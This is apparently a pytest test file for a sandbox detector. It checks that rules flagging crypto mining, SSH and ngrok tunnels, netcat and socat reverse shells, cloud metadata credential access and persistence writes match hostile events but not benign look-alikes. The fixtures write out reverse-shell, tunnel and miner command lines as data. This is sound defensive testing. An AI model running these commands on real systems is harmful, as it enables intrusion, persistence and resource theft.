"""Detector rules are data: the shipped file loads, every rule matches what it is about
and not its benign look-alike, and a broken rule file is refused at FILE:LINE: KEY."""

from __future__ import annotations

import re
from pathlib import Path
from typing import Any

import pytest

from corral.errors import RuleError
from corral.model import Category, Severity
from corral.watch.engine import Engine
from corral.watch.rules import (
    RESPONSES,
    DetectorRules,
    EventView,
    Globs,
    load_detectors,
    program_names,
)

WALLET = "44" + "A" * 93  # the shape of a Monero address: 4, [0-9AB], 93 base58 characters


def ev(kind: str, **fields: Any) -> dict[str, Any]:
    return {"kind": kind, "sandbox": "sb1", "t": 100.0, "pid": 42, "action_id": "act1", **fields}


def exe(*argv: str, path: str | None = None, **fields: Any) -> dict[str, Any]:
    binary = path or ("/usr/bin/" + argv[0].rpartition("/")[2])
    return ev(
        "exec", **{"ppid": 1, "argv": list(argv), "exe": binary, "stdio_sockets": False, **fields}
    )


def net(host: str, port: int, *, allowed: bool = True, ip: str | None = None) -> dict[str, Any]:
    return ev("net", host=host, port=port, ip=ip, allowed=allowed, protocol="tcp", rule="r")


def dns(name: str, allowed: bool = True) -> dict[str, Any]:
    return ev("dns", name=name, allowed=allowed)


def sample(
    cpu: float, outlived: bool, argv: tuple[str, ...] = ("python3", "x.py")
) -> dict[str, Any]:
    return ev(
        "sample", argv=list(argv), cpu=cpu, cpu_share=cpu, rss=1 << 20, outlived_action=outlived
    )


def gpu(util: float, granted: bool, outlived: bool = False) -> dict[str, Any]:
    return ev(
        "gpu",
        gpu=0,
        util=util,
        memory=1 << 30,
        granted=granted,
        argv=["python3"],
        outlived_action=outlived,
    )


def write(path: str) -> dict[str, Any]:
    return ev("file", path=path, op="write")


# (rule id, event that must match, why) -- every shipped rule at least once
POSITIVE: list[tuple[str, dict[str, Any]]] = [
    ("mining-binary", exe("xmrig", "--donate-level", "1", path="/tmp/xmrig")),
    ("mining-binary", exe("./xmrig-6.21.0", path="/tmp/xmrig-6.21.0")),  # xmrig-* glob
    ("mining-binary", exe("[kworker/0:1]", path="/tmp/.x/xmrig")),  # argv[0] spoofed
    ("mining-binary", exe("sh", "./cpuminer", path="/usr/bin/dash")),  # a #! script
    ("mining-stratum-argv", exe("./svc", "-o", "stratum+tcp://pool.example.com:3333")),
    ("mining-stratum-argv", exe("./svc", "--url=STRATUM+SSL://p.example:443")),
    ("mining-stratum-argv", exe("./svc", "-u", WALLET, "-p", "x")),
    ("mining-pool-connection", net("127.0.0.2", 3333)),  # a stratum port, any host
    ("mining-pool-connection", net("xmr-eu1.nanopool.org", 443)),  # a pool's subdomain
    ("mining-pool-connection", net("gulf.moneroocean.stream", 10128, allowed=False)),
    ("mining-pool-dns", dns("xmr-eu1.nanopool.org")),
    ("mining-pool-dns", dns("SupportXMR.com.")),
    ("resource-hijack-cpu", sample(0.97, outlived=True)),
    ("gpu-hijack", gpu(97.0, granted=False)),
    ("resource-hijack-gpu", gpu(97.0, granted=True, outlived=True)),
    ("tunnel-ssh-forward", exe("ssh", "-N", "-R", "9999:127.0.0.1:22", "u@h")),
    ("tunnel-ssh-forward", exe("ssh", "-fNL", "8080:localhost:80", "u@h")),  # a cluster
    ("tunnel-ssh-forward", exe("ssh", "-D1080", "u@h")),
    ("tunnel-ssh-forward", exe("ssh", "-p", "22", "-NR", "9:localhost:22", "u@h")),
    ("tunnel-ssh-forward", exe("ssh", "-R8080:localhost:80", "u@h")),
    ("tunnel-ssh-forward", exe("ssh", "-o", "RemoteForward=9000 localhost:22", "u@h")),
    ("tunnel-ssh-forward", exe("ssh", "-oDynamicForward=1080", "u@h")),
    ("tunnel-ssh-forward", exe("ssh", "-o", "Tunnel=point-to-point", "-w", "0:0", "u@h")),
    ("tunnel-tool", exe("ngrok", "http", "8080")),
    ("tunnel-tool", exe("/bin/sh", "./ngrok", "tcp", "22", path="/usr/bin/dash")),
    ("tunnel-tool", exe("./chisel_1.9.1_linux_amd64", "client", "h:8080", "R:socks")),
    ("tunnel-tool", exe("cloudflared", "tunnel", "--url", "http://localhost:8000")),
    ("tunnel-tool", exe("autossh", "-M", "0", "u@h")),
    ("tunnel-netcat-exec", exe("nc", "-lvp", "4444", "-e", "/bin/sh")),
    ("tunnel-netcat-exec", exe("nc", "-nvc", "/bin/bash", "h", "4444")),  # a cluster
    ("tunnel-netcat-exec", exe("nc.traditional", "-e/bin/sh", "h", "4444")),
    ("tunnel-netcat-exec", exe("ncat", "--sh-exec", "bash", "h", "443")),
    ("tunnel-socat-exec", exe("socat", "TCP:h:4444", "EXEC:/bin/bash,pty,stderr")),
    ("tunnel-socat-exec", exe("socat", "tcp-listen:4444", "system:sh")),
    ("tunnel-socket-stdio", exe("bash", "-i", stdio_sockets=True)),
    ("recon-port-probe", net("10.9.9.9", 81, allowed=False)),  # (one event: see engine)
    ("recon-host-probe", net("10.9.9.9", 81, allowed=False)),
    ("credential-metadata", net("169.254.169.254", 80, allowed=False)),
    ("credential-metadata", net("metadata.google.internal", 80)),
    ("credential-metadata", net("imds", 80, ip="169.254.169.254")),
    ("credential-metadata", net("x", 80, ip="::ffff:169.254.169.254")),  # v4-mapped
    ("credential-metadata", net("[fd00:ec2::254]", 80)),
    ("credential-metadata", net("100.100.100.200", 80)),
    ("persistence-authorized-keys", write("/root/.ssh/authorized_keys")),
    ("persistence-authorized-keys", write("/home/agent/.ssh/authorized_keys2")),
    ("persistence-authorized-keys", write("/work/sub/../.ssh/authorized_keys")),
    ("persistence-cron", write("/etc/crontab")),
    ("persistence-cron", write("/etc/cron.d/backup")),
    ("persistence-cron", write("/var/spool/cron/crontabs/root")),
    ("persistence-shell-rc", write("/home/agent/.bashrc")),
    ("persistence-shell-rc", write("/root/.profile")),
    ("persistence-shell-rc", write("/work/.zshrc")),
    ("persistence-shell-rc", write("/etc/profile.d/proxy.sh")),
    ("persistence-startup", write("/etc/systemd/system/backdoor.service")),
    ("persistence-startup", write("/home/u/.config/systemd/user/x.service")),
    ("persistence-startup", write("/usr/lib/python3/site-packages/sitecustomize.py")),
]

# (rule id, the benign look-alike that must not match)
NEGATIVE: list[tuple[str, dict[str, Any]]] = [
    ("mining-binary", exe("python3", "train.py", path="/usr/bin/python3.11")),
    ("mining-binary", exe("grep", "xmrig", "log.txt")),
    ("mining-stratum-argv", exe("curl", "https://example.com/stratum-docs")),
    ("mining-stratum-argv", exe("echo", WALLET[:60])),
    ("mining-pool-connection", net("pypi.org", 443)),
    ("mining-pool-connection", net("notnanopool.org", 443)),  # not under nanopool.org
    ("mining-pool-dns", dns("pypi.org")),
    ("mining-pool-dns", dns("nanopool.org.example.com")),
    ("resource-hijack-cpu", sample(0.97, outlived=False, argv=("python3", "train.py"))),
    ("resource-hijack-cpu", sample(0.5, outlived=True)),
    ("gpu-hijack", gpu(97.0, granted=True)),
    ("resource-hijack-gpu", gpu(97.0, granted=True, outlived=False)),  # training, in its step
    ("resource-hijack-gpu", gpu(10.0, granted=True, outlived=True)),  # a tail of idle memory
    ("gpu-hijack", gpu(10.0, granted=False)),
    ("tunnel-ssh-forward", exe("ssh", "user@host", "ls")),
    # -R after the destination belongs to the remote command, not to ssh.
    ("tunnel-ssh-forward", exe("ssh", "user@host", "ls", "-lR", "/srv")),
    # -L's letter inside an option's value (-i Lkey) is not the option.
    ("tunnel-ssh-forward", exe("ssh", "-i", "-Lkey", "host", "true")),
    ("tunnel-ssh-forward", exe("ssh", "-p", "2222", "-i", "key", "-l", "me", "host", "uptime")),
    (
        "tunnel-ssh-forward",
        exe(
            "ssh",
            "-o",
            "StrictHostKeyChecking=no",
            "-oUserKnownHostsFile=/dev/null",
            "-o",
            "ProxyCommand=nc -X 5 -x 127.0.0.1:1080 %h %p",
            "-J",
            "jump:22",
            "u@h",
        ),
    ),
    ("tunnel-ssh-forward", exe("scp", "-r", "dir", "u@h:/tmp")),
    ("tunnel-tool", exe("python3", "-m", "http.server")),
    ("tunnel-tool", exe("sh", "-c", "echo ngrok")),
    ("tunnel-tool", exe("bash", "build.sh")),
    ("tunnel-netcat-exec", exe("nc", "-z", "host", "80")),
    ("tunnel-netcat-exec", exe("nc", "-zv", "host", "80")),
    ("tunnel-netcat-exec", exe("nc", "-l", "8080")),
    ("tunnel-netcat-exec", exe("grep", "-e", "pattern", "file")),
    ("tunnel-socat-exec", exe("socat", "TCP-LISTEN:8080,fork", "TCP:localhost:80")),
    ("tunnel-socket-stdio", exe("bash", "-i")),
    ("tunnel-socket-stdio", {k: v for k, v in exe("bash").items() if k != "stdio_sockets"}),
    ("recon-port-probe", net("pypi.org", 443)),
    ("recon-host-probe", net("pypi.org", 443)),
    ("credential-metadata", net("pypi.org", 443, ip="151.101.0.223")),
    ("credential-metadata", net("169.254.169.253", 80)),
    ("credential-metadata", net("metadata.google.internal.evil.example", 80)),
    ("persistence-authorized-keys", write("/home/agent/.ssh/known_hosts")),
    ("persistence-authorized-keys", write("/work/docs/authorized_keys.md")),
    ("persistence-cron", write("/work/etc/cron.md")),
    ("persistence-cron", write("/work/src/cron.py")),
    ("persistence-shell-rc", write("/home/agent/.bashrc.bak")),
    ("persistence-shell-rc", write("/work/src/profile.py")),
    ("persistence-startup", write("/work/.venv/lib/python3.11/site-packages/__editable__.x.pth")),
    ("persistence-startup", write("/work/systemd/notes.txt")),
]


@pytest.fixture(scope="module")
def shipped() -> DetectorRules:
    return load_detectors()


def _rule_ids(engine: Engine, event: dict[str, Any]) -> list[str]:
    return [m.rule.id for m in engine.feed(event)]


# --- the shipped file --------------------------------------------------------------------


def test_the_shipped_rules_load_once_with_their_version(shipped: DetectorRules) -> None:
    assert shipped.version == "2026.11.3"
    assert shipped.source.endswith("detectors.yaml")
    assert shipped.lists_version
    assert load_detectors() is shipped  # cached
    ids = shipped.ids
    assert len(ids) == len(set(ids)) >= 18
    for rule in shipped.rules:
        assert rule.reason and rule.tags and rule.line
        assert rule.response in RESPONSES
        assert isinstance(rule.category, Category) and isinstance(rule.severity, Severity)
        assert all(re.fullmatch(r"T\d{4}(\.\d{3})?", t) for t in rule.tags)


def test_the_brief_responses_are_the_defaults(shipped: DetectorRules) -> None:
    def response(rule_id: str) -> str:
        rule = shipped.get(rule_id)
        assert rule is not None, rule_id
        return rule.response

    assert response("mining-binary") == "kill-sandbox"
    assert response("gpu-hijack") == "kill-sandbox"
    assert response("resource-hijack-cpu") == "kill-process"
    assert response("tunnel-ssh-forward") == "kill-process"
    assert response("recon-port-probe") == "alert"
    assert shipped.get("credential-metadata").category is Category.CREDENTIAL_ACCESS  # type: ignore[union-attr]
    assert shipped.get("resource-hijack-cpu").category is Category.MINING  # type: ignore[union-attr]
    assert shipped.get("nope") is None


def test_every_shipped_rule_is_tested_both_ways(shipped: DetectorRules) -> None:
    assert {r for r, _ in POSITIVE} == set(shipped.ids)
    assert {r for r, _ in NEGATIVE} == set(shipped.ids)


@pytest.mark.parametrize(("rule_id", "event"), POSITIVE, ids=[f"{r}+" for r, _ in POSITIVE])
def test_rule_matches(shipped: DetectorRules, rule_id: str, event: dict[str, Any]) -> None:
    rule = shipped.get(rule_id)
    assert rule is not None
    assert rule.matches(event)
    if rule.sustained is None and rule.burst is None:
        assert rule_id in _rule_ids(Engine(shipped), event)


@pytest.mark.parametrize(("rule_id", "event"), NEGATIVE, ids=[f"{r}-" for r, _ in NEGATIVE])
def test_rule_does_not_match(shipped: DetectorRules, rule_id: str, event: dict[str, Any]) -> None:
    rule = shipped.get(rule_id)
    assert rule is not None
    assert not rule.matches(event)
    assert rule_id not in _rule_ids(Engine(shipped), event)


def test_a_benign_session_raises_nothing(shipped: DetectorRules) -> None:
    engine = Engine(shipped)
    session = [
        exe("bash", "-c", "pip install -r requirements.txt"),
        dns("pypi.org"),
        net("pypi.org", 443, ip="151.101.0.223"),
        net("files.pythonhosted.org", 443),
        exe("curl", "-sSL", "https://pypi.org/simple/"),
        exe("ssh", "git@github.com", "git-upload-pack", "'org/repo.git'"),
        exe("nc", "-z", "db", "5432"),
        exe("python3", "train.py", path="/usr/bin/python3.11"),
        write("/work/src/model.py"),
        write("/work/.venv/lib/python3.11/site-packages/__editable__.pkg.pth"),
    ]
    session += [
        {**sample(1.0, outlived=False, argv=("python3", "train.py")), "t": 100.0 + i}
        for i in range(10)
    ]
    assert [m for e in session for m in engine.feed(e)] == []


# --- condition semantics -----------------------------------------------------------------


def test_program_names_include_the_script_an_interpreter_runs(shipped: DetectorRules) -> None:
    interp = shipped.interpreters
    assert program_names(exe("/bin/sh", "./ngrok", "tcp", path="/usr/bin/dash"), interp) == [
        "dash",
        "sh",
        "ngrok",
    ]
    assert program_names(exe("python3", "-m", "x"), interp) == ["python3", "python3"]
    assert program_names(exe("-bash"), interp) == ["-bash", "bash"]  # login shells
    assert program_names(ev("sample", argv=["ls"])) == ["ls"]
    assert program_names(ev("gpu")) == []


def test_globs_by_shape() -> None:
    g = Globs.of(["xmrig", "xmrig-*", "*miner", "nc.*", "t?x"])
    assert g.exact == {"xmrig"} and g.prefixes == ("xmrig-", "nc.") and g.suffixes == ("miner",)
    for name in ("xmrig", "xmrig-6.2", "cpuminer", "nc.openbsd", "tmx"):
        assert g.match(name), name
    for name in ("XMRIG", "xmrig6", "miners", "ncat", "tx"):
        assert not g.match(name), name


def test_missing_or_null_fields_never_satisfy_a_condition(shipped: DetectorRules) -> None:
    gpu_rule = shipped.get("gpu-hijack")
    hijack = shipped.get("resource-hijack-cpu")
    assert gpu_rule is not None and hijack is not None
    assert not gpu_rule.matches(ev("gpu", util=99.0))  # granted unknown
    assert not gpu_rule.matches(ev("gpu", util=None, granted=False))
    assert not hijack.matches(ev("sample", cpu_share=2.0, outlived_action=None))
    assert not hijack.matches(ev("sample", cpu_share=True, outlived_action=True))  # no number
    stdio = shipped.get("tunnel-socket-stdio")
    assert stdio is not None and not stdio.matches(ev("exec"))
    meta = shipped.get("credential-metadata")
    assert meta is not None and not meta.matches(ev("net", host=None, ip=None))


def test_reason_placeholders_come_from_the_event(shipped: DetectorRules) -> None:
    rule = shipped.get("tunnel-tool")
    assert rule is not None
    event = exe("/bin/sh", "./ngrok", "tcp", "22", path="/usr/bin/dash")
    assert rule.describe(event) == "ngrok is a tunnelling or proxy tool"  # not "dash"
    pool = shipped.get("mining-pool-connection")
    assert pool is not None
    assert (
        pool.describe(net("127.0.0.2", 3333))
        == "a connection to 127.0.0.2:3333, a mining pool address"
    )
    hijack = shipped.get("resource-hijack-cpu")
    assert hijack is not None
    assert hijack.describe(sample(1.0, True)).startswith("python3 (pid 42) kept a CPU core busy")
    assert hijack.describe(ev("sample")).startswith("? (pid 42)")  # nothing to name: "?"


def test_an_event_view_is_reused_across_rules(shipped: DetectorRules) -> None:
    view = EventView(exe("xmrig"), shipped.interpreters)
    rule = shipped.get("mining-binary")
    assert rule is not None and rule.matches(view) and rule.matches(view)
    assert view.names() is view.names()
    assert EventView(write("/a/./b//c")).path() == "/a/b/c"
    assert EventView(net("1.2.3.4", 1)).address() == (4, 0x01020304)
    assert EventView(net("pypi.org", 1)).address() is None


# --- loading errors ----------------------------------------------------------------------

RULE = """\
version: "1"
rules:
  - id: a
    category: mining
    severity: high
    response: alert
    tags: [T1496]
    reason: "{program} is bad"
    on: exec
    match: {program: [x]}
"""


def _load(tmp_path: Path, text: str) -> tuple[Path, RuleError]:
    path = tmp_path / "detectors.yaml"
    path.write_text(text)
    with pytest.raises(RuleError) as info:
        load_detectors(path)
    return path, info.value


@pytest.mark.parametrize(
    ("edit", "line", "key", "needle"),
    [
        pytest.param(
            ("match: {program: [x]}", "match:\n      program: [x]\n      prgram: [y]"),
            12,
            "a.match.prgram",
            "unknown condition",
            id="unknown-condition",
        ),
        pytest.param(
            ("match: {program: [x]}", "match:\n      args: ['ok', '(unclosed']"),
            11,
            "a.match.args[1]",
            "bad regular expression",
            id="bad-regex",
        ),
        pytest.param(
            ("match: {program: [x]}", "match:\n      program: [x, $nope]"),
            11,
            "a.match.program[1]",
            "unknown list $nope",
            id="unknown-list",
        ),
        pytest.param(
            ("category: mining", "category: minning"),
            4,
            "a.category",
            "did you mean 'mining'",
            id="bad-category",
        ),
        pytest.param(
            ("response: alert", "response: kill"),
            6,
            "a.response",
            "'kill-process'",
            id="bad-response",
        ),
        pytest.param(
            ("severity: high", "severity: extreme"),
            5,
            "a.severity",
            "'critical'",
            id="bad-severity",
        ),
        pytest.param(
            ("    on: exec", "    on: exec\n    when: now"),
            10,
            "a.when",
            "unknown key",
            id="unknown-rule-key",
        ),
        pytest.param(
            ("on: exec", "on: exit"),
            9,
            "a.on",
            "'exec'",
            id="bad-event-kind",
        ),
        pytest.param(
            ("match: {program: [x]}", "match: {program: [x], cpu_above: 1}"),
            10,
            "a.match.cpu_above",
            "does not apply to exec events",
            id="wrong-kind",
        ),
        pytest.param(
            (
                "match: {program: [x]}",
                "match: {program: [x]}\n    any:\n      - {args: [a]}\n      - {hst: [b]}",
            ),
            13,
            "a.any[1].hst",
            "did you mean 'host'",
            id="unknown-in-any",
        ),
        pytest.param(
            ("{program} is bad", "{prog} is bad"),
            8,
            "a.reason",
            "unknown placeholder {prog}",
            id="bad-placeholder",
        ),
        pytest.param(
            ("tags: [T1496]", "tags: [mining]"),
            7,
            "a.tags[0]",
            "MITRE ATT&CK",
            id="bad-tag",
        ),
        pytest.param(
            ("id: a", "id: Bad_Id"),
            3,
            "rules[0].id",
            "lower-case",
            id="bad-id",
        ),
        pytest.param(
            ("    severity: high\n", ""),
            3,
            "a.severity",
            "missing required key",
            id="missing-key",
        ),
        pytest.param(
            ("on: exec\n    match: {program: [x]}", "on: net\n    match: {ip: [10.0.0.1/8]}"),
            10,
            "a.match.ip[0]",
            "bad CIDR",
            id="bad-cidr",
        ),
        pytest.param(
            (
                "on: exec\n    match: {program: [x]}",
                "on: net\n    match: {port: [$miner_binaries]}",
            ),
            10,
            "a.match.port[0]",
            "not a port number",
            id="list-of-names-as-ports",
        ),
        pytest.param(
            ("on: exec\n    match: {program: [x]}", "on: net\n    match: {port: [70000]}"),
            10,
            "a.match.port[0]",
            "out of range",
            id="port-range",
        ),
        pytest.param(
            (
                "on: exec\n    match: {program: [x]}",
                "on: net\n    match: {burst: {count: 2, within: 1, distinct: pid}}",
            ),
            10,
            "a.match.burst.distinct",
            "'port'",
            id="bad-burst",
        ),
        pytest.param(
            (
                "on: exec\n    match: {program: [x]}",
                "on: sample\n    any: [{cpu_above: 1, sustained: 2}]",
            ),
            10,
            "a.any[0].sustained",
            "put it under match",
            id="sustained-in-any",
        ),
        pytest.param(
            ("match: {program: [x]}", "match: {sustained: 2, program: [x]}"),
            10,
            "a.match.sustained",
            "does not apply to exec",
            id="sustained-on-exec",
        ),
        pytest.param(
            ("match: {program: [x]}", "match: {}"),
            3,
            "a",
            "at least one condition",
            id="no-condition",
        ),
        pytest.param(
            ("match: {program: [x]}", "match: {program: []}"),
            10,
            "a.match.program",
            "at least one item",
            id="empty-list",
        ),
        pytest.param(
            ('version: "1"', "version: 1.5"),
            1,
            "version",
            "must be a string",
            id="version",
        ),
        pytest.param(
            ("match: {program: [x]}", "match: {program: [x]}\n    match: {args: [y]}"),
            11,
            "rules[0].match",
            "duplicate key",
            id="duplicate-yaml-key",
        ),
    ],
)
def test_bad_rule_files_name_file_line_and_key(
    tmp_path: Path, edit: tuple[str, str], line: int, key: str, needle: str
) -> None:
    old, new = edit
    assert old in RULE
    path, err = _load(tmp_path, RULE.replace(old, new))
    assert str(err).startswith(f"{path}:{line}: {key}: "), str(err)
    assert needle in err.detail
    assert (err.file, err.line, err.key) == (str(path), line, key)


def test_a_duplicate_id_names_both_lines(tmp_path: Path) -> None:
    path, err = _load(tmp_path, RULE + RULE.split("rules:\n", 1)[1])
    assert str(err) == f"{path}:11: a.id: duplicate rule id (first on line 3)"


def test_yaml_syntax_errors_and_missing_files(tmp_path: Path) -> None:
    path, err = _load(tmp_path, RULE + "  - [\n")
    assert str(err).startswith(f"{path}:12: ") and "YAML syntax error" in str(err)
    path, err = _load(tmp_path, "# nothing\n")
    assert "empty rule file" in str(err)
    path, err = _load(tmp_path, "- a\n")
    assert "must be a mapping" in str(err)
    with pytest.raises(RuleError, match="no such rule file"):
        load_detectors(tmp_path / "absent.yaml")


def test_on_is_a_key_not_a_yaml_1_1_boolean(tmp_path: Path) -> None:
    path = tmp_path / "ok.yaml"
    path.write_text(RULE.replace("on: exec", "on: dns").replace("{program: [x]}", "{host: [no]}"))
    rules = load_detectors(path)  # `on` and `no` stay strings
    (rule,) = rules.rules
    assert rule.on == "dns" and rule.matches(dns("no"))
    assert rules.source == str(path) and rules.version == "1"


def test_disabled_rules_are_not_compiled_in(tmp_path: Path) -> None:
    path = tmp_path / "d.yaml"
    path.write_text(RULE + "    enabled: false\n")
    assert load_detectors(path).rules == ()


def test_lists_can_come_from_another_file(tmp_path: Path) -> None:
    lists = tmp_path / "lists.yaml"
    lists.write_text('version: "9"\nlists:\n  miners: [fancyminer]\n  shells: [sh]\n')
    rules = tmp_path / "r.yaml"
    rules.write_text(RULE.replace("[x]", "$miners"))
    loaded = load_detectors(rules, lists_path=lists)
    assert loaded.lists_version == "9"
    (rule,) = loaded.rules
    assert rule.matches(exe("fancyminer")) and rule.matches(exe("sh", "fancyminer"))
    assert not rule.matches(exe("xmrig"))


def test_an_unknown_list_in_the_shipped_rules_with_other_lists_is_an_error(
    tmp_path: Path,
) -> None:
    lists = tmp_path / "lists.yaml"
    lists.write_text('version: "9"\nlists:\n  shells: [sh]\n')
    with pytest.raises(RuleError, match=r"detectors\.yaml:\d+: mining-binary\.match\.program\[0\]"):
        load_detectors(lists_path=lists)
